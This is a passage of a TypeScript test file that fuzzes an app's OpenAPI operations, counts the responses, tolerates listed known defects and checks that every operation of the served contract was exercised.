    if (process.env.FUZZ_DEBUG === 'valid' && n >= validFrom && n < validFrom + VALID_RUNS && res.statusCode >= 300) console.log(operationId, res.statusCode, show(g).slice(0, 400), res.body.slice(0, 300));
    stats[operationId].sent++;
    if (res.statusCode < 300) stats[operationId].ok++;
    for (const f of check(op, g, res)) {
      const known = Object.entries(KNOWN_DEFECTS).find(([, k]) => k.covers?.(op, g, f));
      if (!known) {
        failures.push(`[${f.kind}] request #${n} ${op.method} ${show(g)} → ${f.detail}`);
        continue;
      }
      knownHits[known[0]] = (knownHits[known[0]] ?? 0) + 1;
      if (process.env.FUZZ_DEBUG === known[0]) console.log(`${known[0]} ${operationId} ${f.detail.slice(0, 200)}`);
    }
  }
  exercised.add(operationId);
  if (failures.length) throw new Error(`${failures.length} failure(s); reproduce with FUZZ_SEED=${SEED} (FUZZ_RUNS=${RUNS})\n${failures.slice(0, 15).join('\n')}`);
});

test('every operation of the contract was fuzzed, and the contract is the one the app serves', () => {
  const served = operations(w.t.app.swagger() as Schema).map((o) => o.operationId);
  expect(served.sort()).toEqual(ops.map((o) => o.operationId).sort());
  if (!ONLY) expect(exercised.size).toBe(ops.length);
  const sent = Object.values(stats).reduce((a, s) => a + s.sent, 0);
  const ok = Object.values(stats).reduce((a, s) => a + s.ok, 0);
  console.log(
    `fuzz: FUZZ_SEED=${SEED}, ${sent} requests over ${exercised.size} operations (${ok} answered 2xx/3xx); ` +
      `known defects tolerated: ${JSON.stringify(knownHits)}; never 2xx/3xx: ${Object.entries(stats).filter(([, s]) => s.ok === 0).map(([k]) => k).join(', ') || 'none'}`,
  );
});
